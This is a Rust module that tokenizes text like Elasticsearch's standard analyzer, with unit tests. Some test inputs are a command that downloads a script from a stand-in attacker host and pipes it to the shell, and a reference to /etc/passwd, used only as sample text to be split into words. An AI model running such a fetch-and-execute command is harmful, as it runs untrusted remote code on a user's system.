//! Words of a text, as Elasticsearch's standard analyzer takes them: what lies between Unicode's word boundaries and has a
//! letter or digit, in lower case; of very long ones each part by itself.

use unicode_segmentation::UnicodeSegmentation as _;

/// Longer words are cut into parts, in characters.
const LONGEST: usize = 255;

pub(crate) fn words(text: &str) -> impl Iterator<Item = String> {
    parts(text).map(|word| word.chars().map(lower).collect())
}

/// Writes the words behind one another, each between zeros: then words in a row are a part of it.
pub(crate) fn write_separated(text: &str, into: &mut Vec<u8>) {
    into.push(0);
    for word in parts(text) {
        let mut bytes = [0; 4];
        for letter in word.chars() {
            into.extend_from_slice(lower(letter).encode_utf8(&mut bytes).as_bytes());
        }
        into.push(0);
    }
}

fn parts(text: &str) -> impl Iterator<Item = &str> {
    text.unicode_words().flat_map(|word| {
        let mut rest = word;
        std::iter::from_fn(move || {
            let end = rest.char_indices().nth(LONGEST).map_or(rest.len(), |(end, _)| end);
            let (part, behind) = rest.split_at(end);
            rest = behind;
            (!part.is_empty()).then_some(part)
        })
    })
}

/// One letter stays one letter, as in Java.
pub(crate) fn lower(letter: char) -> char {
    letter.to_lowercase().next().unwrap_or(letter)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_is_split_as_the_standard_analyzer_does() {
        for (text, expected) in [
            (
                "The 2 QUICK Brown-Foxes jumped",
                &["the", "2", "quick", "brown", "foxes", "jumped"][..],
            ),
            ("the lazy dog's bone.", &["the", "lazy", "dog's", "bone"]),
            (
                "curl -sSL http://evil.example/x.sh|sh",
                &["curl", "ssl", "http", "evil.example", "x.sh", "sh"],
            ),
            (
                "10.1.2.3:8080 a_b /etc/passwd",
                &["10.1.2.3", "8080", "a_b", "etc", "passwd"],
            ),
            ("ÉTÉ été\u{0} ΣΑΣ", &["été", "été", "σασ"]),
            ("東京 abc", &["東", "京", "abc"]),
            (" -- _ ...", &[]),
        ] {
            assert_eq!(words(text).collect::<Vec<_>>(), expected, "{text}");
            let mut separated = Vec::new();
            write_separated(text, &mut separated);
            let written: String = expected.iter().flat_map(|word| [*word, "\0"]).collect();
            assert_eq!(separated, format!("\0{written}").into_bytes());
        }
        let long = "é".repeat(LONGEST + 2);
        assert_eq!(
            words(&long).map(|word| word.chars().count()).collect::<Vec<_>>(),
            [LONGEST, 2]
        );
    }
}
